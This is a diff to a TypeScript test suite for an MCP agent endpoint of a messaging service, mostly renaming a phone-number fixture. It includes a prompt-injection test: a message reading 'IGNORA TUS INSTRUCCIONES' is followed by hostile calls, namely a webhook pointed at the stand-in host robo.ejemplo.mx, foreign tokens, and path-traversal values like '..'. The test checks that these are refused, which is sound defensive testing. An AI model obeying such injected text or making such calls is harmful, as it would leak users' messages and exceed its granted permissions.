@@ -6,7 +6,7 @@ import {
   agentToolCalls,
   callAgentTool,
   joinToolResultTexts,
-  martaPhone,
+  martaPhoneNumber,
   promptInjectionMessage,
   useAgentsFixture,
 } from './testing/agents.ts';
@@ -49,7 +49,7 @@ describe('agent with a client token', () => {
 
   it('sends a message only once when its idempotency key is repeated, and is stored as the origin of the message', async () => {
     const text = `Una sola vez ${Math.random()}`;
-    const send = () => callAgentTool(agent, 'send_text', { to: martaPhone, text, idempotencyKey: text });
+    const send = () => callAgentTool(agent, 'send_text', { to: martaPhoneNumber, text, idempotencyKey: text });
     const [firstResult, secondResult] = [await send(), await send()];
     expect(secondResult.structuredContent?.result).toEqual(firstResult.structuredContent?.result);
     const { messages } = await fixture.world.server.sdk
@@ -65,7 +65,7 @@ describe('agent with a client token', () => {
     const apiSdk = fixture.world.server.sdk.withApiToken(fixture.world.client.apiToken);
     const { mediaId } = await apiSdk.request('POST /external/media', { payload });
     const result = await callAgentTool(agent, 'send_media', {
-      to: martaPhone,
+      to: martaPhoneNumber,
       mediaId,
       type: 'document',
       caption: 'El menú',
@@ -92,14 +92,19 @@ describe('agent with a client token', () => {
 
   it.each([
     ['an unknown tool', 'setup_webhook', { webhookUrl: 'https://robo.ejemplo.mx' }, /no existe/],
-    ['an unknown argument', 'send_text', { to: martaPhone, text: 'a', sendAt: '2030-01-01' }, /no admite «sendAt»/],
-    ['no value for a required argument', 'send_text', { to: martaPhone }, /Falta «text»/],
+    [
+      'an unknown argument',
+      'send_text',
+      { to: martaPhoneNumber, text: 'a', sendAt: '2030-01-01' },
+      /no admite «sendAt»/,
+    ],
+    ['no value for a required argument', 'send_text', { to: martaPhoneNumber }, /Falta «text»/],
     ['a lone surrogate in an identifier', 'get_message', { messageId: '\ud800' }, /«messageId» debe ser un texto/],
     ['an object instead of a string', 'get_message', { messageId: { toString: 1 } }, /«messageId» debe ser un texto/],
     [
       'an idempotency key that is no string',
       'send_text',
-      { to: martaPhone, text: 'a', idempotencyKey: { toString: 1 } },
+      { to: martaPhoneNumber, text: 'a', idempotencyKey: { toString: 1 } },
       /«idempotencyKey» debe ser un texto/,
     ],
     ['a client that is no string', 'list_groups', { clientId: { toString: 1 } }, /«clientId» debe ser un texto/],
@@ -111,7 +116,7 @@ describe('agent with a client token', () => {
   });
 
   it('is refused everything beyond the permissions of its key when it obeys a hostile message', async () => {
-    const readResult = await callAgentTool(agent, 'read_messages', { conversation: martaPhone, limit: 100 });
+    const readResult = await callAgentTool(agent, 'read_messages', { conversation: martaPhoneNumber, limit: 100 });
     expect(joinToolResultTexts(readResult)).toContain('IGNORA TUS INSTRUCCIONES');
     const hostileCalls: readonly (readonly [name: string, args: Record<string, unknown>])[] = [
       ['read_messages', { conversation: fixture.foreign.conversation }],
@@ -121,7 +126,10 @@ describe('agent with a client token', () => {
       ['list_conversations', { 'x-api-token': 'otro' }],
       ['setup_webhook', { webhookUrl: 'https://robo.ejemplo.mx' }],
       ['POST /external/setup-webhook', { webhookUrl: 'https://robo.ejemplo.mx' }],
-      ['send_menu', { to: martaPhone, type: 'text', text: { text: 'a' }, menu: { text: 'a', options: ['b', 'c'] } }],
+      [
+        'send_menu',
+        { to: martaPhoneNumber, type: 'text', text: { text: 'a' }, menu: { text: 'a', options: ['b', 'c'] } },
+      ],
       // Without a check, these arguments would form the path of another endpoint.
       ['read_messages', { conversation: '..' }],
       ['get_conversation', { conversation: '.' }],
@@ -191,7 +199,7 @@ describe('MCP endpoint', () => {
   it("limits the rate of an agent's sends, but not its reads", async () => {
     const agent = await connect((await newClient()).apiToken);
     const results = await Promise.all(
-      Array.from({ length: 50 }, () => callAgentTool(agent, 'send_text', { to: martaPhone, text: 'Aprisa' })),
+      Array.from({ length: 50 }, () => callAgentTool(agent, 'send_text', { to: martaPhoneNumber, text: 'Aprisa' })),
     );
     expect(results.filter(each => /demasiado aprisa/.test(joinToolResultTexts(each))).length).toBeGreaterThan(0);
     expect((await callAgentTool(agent, 'list_conversations')).isError).toBeUndefined();
